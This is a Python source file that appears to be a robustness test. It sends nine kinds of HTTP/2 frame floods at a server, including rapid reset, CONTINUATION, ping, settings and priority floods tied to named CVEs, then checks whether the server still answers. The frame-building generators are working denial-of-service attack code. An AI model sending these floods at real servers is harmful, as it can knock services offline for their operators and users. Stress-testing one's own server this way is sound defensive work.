"""Floods of HTTP/2 frames that are cheap for the sender and expensive for a careless server."""

from __future__ import annotations

import struct
import time
from collections.abc import Callable, Iterator

from attempts import attempt, say
from calls import call, open_channel
from frames import (
    CONTINUATION,
    DATA,
    HEADERS,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Connection,
    frame,
    header,
    open_stream,
    request_headers,
)

FRAMES = 40_000
SPEND_S = 0.5


def rapid_resets() -> Iterator[bytes]:
    """Begin and cancel calls (CVE-2023-44487)."""
    for stream in range(1, 2 * FRAMES, 2):
        yield open_stream(stream) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def resets_provoked() -> Iterator[bytes]:
    """Provoke resets by the server (CVE-2025-8671)."""
    for stream in range(1, 2 * FRAMES, 2):
        yield open_stream(stream) + frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\0")


def settings() -> Iterator[bytes]:
    """Change a setting repeatedly; the server must acknowledge each change (CVE-2019-9515)."""
    for number in range(FRAMES):
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535 + number % 2))


def pings() -> Iterator[bytes]:
    """Send pings without end (CVE-2019-9512)."""
    for number in range(FRAMES):
        yield frame(PING, 0, 0, struct.pack(">Q", number))


def endless_headers() -> Iterator[bytes]:
    """Send headers that never end (such as CVE-2024-27316)."""
    yield frame(HEADERS, 0, 1, request_headers())
    for number in range(FRAMES):
        yield frame(CONTINUATION, 0, 1, header(f"x-{number}", "y" * 200))


def empty_data() -> Iterator[bytes]:
    """Send many empty frames (CVE-2019-9518)."""
    yield open_stream(1)
    for _ in range(FRAMES):
        yield frame(DATA, 0, 1)


def priorities() -> Iterator[bytes]:
    """Reorder streams that do not exist (CVE-2019-9513)."""
    for number in range(FRAMES):
        yield frame(PRIORITY, 0, 1 + 2 * (number % 1000), struct.pack(">IB", 0, number % 256))


def windows() -> Iterator[bytes]:
    """Enlarge the window beyond the largest number."""
    for _ in range(FRAMES):
        yield frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF))


def unknown_frames() -> Iterator[bytes]:
    """Send unknown frame types and wrong lengths."""
    for number in range(FRAMES):
        yield frame(32 + number % 200, 255, number % 99, b"?" * (number % 50))


FLOODS: tuple[Callable[[], Iterator[bytes]], ...] = (
    *(rapid_resets, resets_provoked, settings, pings, endless_headers),
    *(empty_data, priorities, windows, unknown_frames),
)


def flood(kind: Callable[[], Iterator[bytes]]) -> str:
    connection = Connection()
    sent, end = 0, time.monotonic() + SPEND_S
    try:
        for octets in kind():
            connection.send(octets)
            sent += 1
            if time.monotonic() > end:
                break
        answer = "the server goes on" if connection.is_open() else "the server hung up"
    except OSError as error:
        answer = f"the server hung up: {error}"
    connection.close()
    say(f"tried {kind.__name__.replace('_', ' ')}: after {sent} frames {answer}")
    return ""


for kind in FLOODS:
    attempt(f"a flood of {kind.__name__.replace('_', ' ')}", flood, kind)
with open_channel() as channel:
    say(f"tried to be answered afterwards: {call(channel, 'list_dir', '{}')}")
